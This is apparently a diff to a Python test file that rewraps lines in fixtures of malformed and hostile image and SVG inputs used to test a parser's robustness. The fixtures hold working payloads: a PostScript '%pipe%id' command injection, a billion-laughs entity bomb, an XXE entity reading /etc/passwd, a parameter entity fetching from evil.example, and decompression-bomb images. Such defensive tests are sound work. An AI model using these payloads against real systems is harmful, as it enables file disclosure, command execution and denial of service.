@@ -55,11 +55,15 @@ PICTURES: dict[str, Callable[[], bytes]] = {
     "a hundred thousand frames": lambda: gif(100_000),
     "cut short": lambda: png(900, 900, zlib.compress(bytes(2_700_900))[:700]),
     "nothing but a beginning": lambda: b"\x89PNG\r\n\x1a\n",
-    "a bitmap of minus size": lambda: b"BM" + struct.pack("<IHHIIiiHHIIiiII", 0, 0, 0, 54, 40, -1, -(2**31), 1, 24, *[0] * 6),  # noqa: E501
+    "a bitmap of minus size": lambda: (
+        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 0, 0, 0, 54, 40, -1, -(2**31), 1, 24, *[0] * 6)
+    ),
     "a TIFF that leads to itself": lambda: b"II*\0\x08\0\0\0" + struct.pack("<HHHIII", 1, 256, 4, 1, 1, 8),
     "an icon of itself": lambda: b"\0\0\1\0\1\0" + struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, 2**31, 0),
     "PostScript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file",
-    "a JPEG of a whole continent": lambda: b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x11\0\2\x11\0\3\x11\0\xff\xd9",  # noqa: E501
+    "a JPEG of a whole continent": lambda: (
+        b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x11\0\2\x11\0\3\x11\0\xff\xd9"
+    ),
 }
 
 
@@ -80,10 +84,13 @@ DOUBLING = "".join(
 LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
 DRAWINGS = {
     "a billion laughs": f"<!DOCTYPE svg [{LAUGHS}]>" + SVG.format("", "<text>&l9;</text>"),
-    "an entity from a file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG.format("", "<text>&x;</text>"),  # noqa: E501
+    "an entity from a file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    + SVG.format("", "<text>&x;</text>"),
     "a parameter entity": '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>' + SVG.format("", ""),
     "uses that double": SVG.format('width="9" height="9"', DOUBLING + '<use href="#a59"/>'),
-    "uses in a circle": SVG.format('width="9" height="9"', '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),  # noqa: E501
+    "uses in a circle": SVG.format(
+        'width="9" height="9"', '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'
+    ),
     "nested deeply": SVG.format('width="9" height="9"', "<g>" * 20_000 + "</g>" * 20_000),
     "a million paths": SVG.format('width="9" height="9"', '<path d="M0 0"/>' * 70_000 + "<x/>" * 70_000),
     "document types without an end": "<!DOCTYPE svg " * 200_000 + SVG.format("", ""),
